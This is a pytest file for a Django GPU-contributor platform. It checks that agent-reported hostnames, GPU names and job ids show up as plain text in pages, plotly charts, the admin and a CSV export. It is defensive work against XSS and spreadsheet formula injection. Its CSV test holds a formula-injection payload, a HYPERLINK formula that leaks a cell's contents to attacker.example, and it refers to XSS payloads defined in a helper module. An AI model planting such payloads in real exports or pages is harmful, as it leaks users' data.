"""Agent-chosen strings are text: hostnames, GPU names, driver and agent versions and job ids
reach the contributor's pages, the figures plotly.js draws, the admin and the CSV export as the
characters the agent sent, never as markup, script or a spreadsheet formula.

The strings arrive as a real agent sends them (tests/support/markup_agent.py: enrollment,
telemetry, an attested job and a settled epoch, all over HTTP).
"""

import csv
import html
import io
import json
import re
from html.parser import HTMLParser

import pytest
from django.urls import reverse

from contributors import charts
from tests.support.markup_agent import (
    AGENT_VERSION,
    DRIVER_VERSION,
    GPU_NAMES,
    HOSTNAME,
    IMG,
    JOB_ID,
    LINK,
    TEMPLATE,
    reported_machine,
)
from tests.support.siwe import signed_in

pytestmark = pytest.mark.django_db

URL_ATTRIBUTES = ("href", "src", "action", "formaction", "xlink:href", "data")


class Page(HTMLParser):
    """A page as a browser's parser sees it: its elements and its visible text."""

    def __init__(self, body: str):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict]] = []
        self._text: list[str] = []
        self._raw: str | None = None
        self.feed(body)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))
        self._raw = tag if tag in ("script", "style") else None

    def handle_endtag(self, tag):
        self._raw = None

    def handle_data(self, data):
        if self._raw is None:
            self._text.append(data)

    @property
    def text(self) -> str:
        return " ".join(" ".join(self._text).split())


def assert_text_not_markup(body: str, *shown: str) -> Page:
    """No element, handler or javascript: URL came out of the agent's strings, and each of
    `shown` reads on the page exactly as the agent wrote it."""
    page = Page(body)
    for tag, attrs in page.elements:
        assert not (tag == "img" and attrs.get("src") == "x"), attrs
        handlers = [name for name in attrs if name.startswith("on")]
        assert handlers == [], (tag, attrs)
        for name in URL_ATTRIBUTES:
            assert not attrs.get(name, "").strip().lower().startswith("javascript:"), attrs
    for text in shown:
        assert " ".join(text.split()) in page.text, text
    return page


def embedded_figure(body: str, element_id: str) -> dict:
    match = re.search(
        rf'<script type="application/json" id="{element_id}">(.*?)</script>', body, re.S
    )
    assert match, element_id
    # Nothing in the JSON may close its <script> element early.
    assert "<" not in match.group(1)
    return json.loads(match.group(1))


def strings_in(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for item in value.values():
            yield from strings_in(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings_in(item)


def assert_plotly_shows_as_text(label: str, original: str) -> None:
    """plotly.js reads `<b>`, `<a href>`, `<br>` in a label as markup, `%{meta}` as a template
    and `&lt;` as `<`: a label must hold no tag and no template, and read back as the original
    text."""
    assert "<" not in label and ">" not in label and "%{" not in label, label
    assert original in html.unescape(label)


@pytest.fixture
def machine(alice):
    return reported_machine(alice)


@pytest.fixture
def client_of(alice):
    return signed_in(alice)


# --- the contributor's pages ------------------------------------------------------------------


def test_the_machines_page_shows_hostname_gpu_names_and_agent_version_as_text(machine, client_of):
    response = client_of.get("/nodes/")

    assert response.status_code == 200
    page = assert_text_not_markup(
        response.content.decode(), HOSTNAME, *GPU_NAMES, f"agent {AGENT_VERSION}"
    )
    # Revoking asks before it goes, by a script that names the machine as text.
    confirms = [a["data-confirm"] for t, a in page.elements if "data-confirm" in a]
    assert confirms == [f"Revoke {HOSTNAME}? It will stop reporting."]


def test_the_dashboard_table_and_live_chart_show_agent_names_as_text(machine, client_of):
    response = client_of.get("/dashboard/")

    body = response.content.decode()
    assert_text_not_markup(body, HOSTNAME, *GPU_NAMES)
    traces = embedded_figure(body, "live-figure")["data"]
    assert [t["meta"] for t in traces] == machine.uuids
    for trace, name in zip(traces, GPU_NAMES, strict=True):
        assert_plotly_shows_as_text(trace["name"], f"{HOSTNAME} · {name}")
        # The hover shows the name by reference: no agent text is ever read as a template.
        assert HOSTNAME not in html.unescape(trace["hovertemplate"])
        assert TEMPLATE not in trace["hovertemplate"]
        assert "%{fullData.name}" in trace["hovertemplate"]


def test_the_gpu_page_and_its_job_marks_show_agent_names_as_text(machine, client_of):
    response = client_of.get(f"/gpus/{machine.uuids[0]}/?range=24h")

    body = response.content.decode()
    assert_text_not_markup(body, GPU_NAMES[0], HOSTNAME)
    figure = embedded_figure(body, "history-figure")
    marks = [a["text"] for a in figure["layout"]["annotations"] if "job" in a["text"]]
    assert len(marks) == 1
    assert_plotly_shows_as_text(marks[0], JOB_ID)
    for text in strings_in(figure):
        assert "onerror" not in text or "<" not in text, text


def test_the_rewards_statement_shows_agent_names_as_text(machine, client_of):
    response = client_of.get("/rewards/")

    body = response.content.decode()
    page = assert_text_not_markup(body, *GPU_NAMES, HOSTNAME)
    assert "compute:" in page.text  # the settled epoch's entries, each GPU named


def test_the_live_chart_keeps_a_label_with_markup_as_plain_text():
    label = f"{LINK} <b>bold</b> & {IMG} {TEMPLATE}"
    fig = charts.live_utilization([("GPU-1", label, [])])

    (trace,) = json.loads(fig.to_json())["data"]
    assert_plotly_shows_as_text(trace["name"], label)
    assert label not in trace["hovertemplate"] and TEMPLATE not in trace["hovertemplate"]


def test_job_marks_keep_an_id_with_markup_as_plain_text():
    fig = charts.gpu_history(
        [], memory_total_mib=24564, jobs=[("2025-03-01T10:00:00Z", None, JOB_ID)]
    )

    (mark,) = [a.text for a in fig.layout.annotations if "job" in a.text]
    assert_plotly_shows_as_text(mark, JOB_ID)


# --- the admin -----------------------------------------------------------------------------


ADMIN_PAGES = {
    "contributors_node_changelist": (HOSTNAME, AGENT_VERSION),
    "contributors_gpu_changelist": (*GPU_NAMES, HOSTNAME, DRIVER_VERSION),
    "contributors_telemetrybatch_changelist": (HOSTNAME,),
    "rewards_job_changelist": (JOB_ID,),
    "rewards_rewardentry_changelist": (GPU_NAMES[0],),
}


@pytest.mark.parametrize("name", ADMIN_PAGES)
def test_admin_lists_show_agent_names_as_text(machine, staff, name):
    response = staff.get(reverse(f"admin:{name}"))

    assert response.status_code == 200
    assert_text_not_markup(response.content.decode(), *ADMIN_PAGES[name])


def test_admin_node_and_gpu_pages_show_agent_names_as_text(machine, staff):
    node = machine.agent.node
    gpu = node.gpus.order_by("uuid").first()

    node_page = staff.get(reverse("admin:contributors_node_change", args=[node.pk]))
    gpu_page = staff.get(reverse("admin:contributors_gpu_change", args=[gpu.pk]))

    assert_text_not_markup(node_page.content.decode(), *GPU_NAMES)
    assert_text_not_markup(gpu_page.content.decode(), gpu.name)


# --- the CSV export -----------------------------------------------------------------------------


FORMULAS = {
    "hostname": '=HYPERLINK("http://attacker.example/?leak="&A1,"rig")',
    "gpus": (
        "+NVIDIA GeForce RTX 4090",
        "-NVIDIA GeForce RTX 4090",
        "@SUM(1+1) NVIDIA GeForce RTX 4090",
        "=NVIDIA GeForce RTX 4090",
    ),
}


def test_csv_cells_a_spreadsheet_would_compute_are_text(alice, client_of):
    reported_machine(alice, hostname=FORMULAS["hostname"], gpu_names=FORMULAS["gpus"])

    response = client_of.get("/rewards/export.csv")

    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert rows
    for row in rows:
        for column, value in row.items():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), (column, value)
    # The text survives behind the quote that keeps a spreadsheet from computing it.
    assert {r["node"] for r in rows} == {"'" + FORMULAS["hostname"]}
    assert {r["gpu_name"] for r in rows} == {"'" + name for name in FORMULAS["gpus"]}
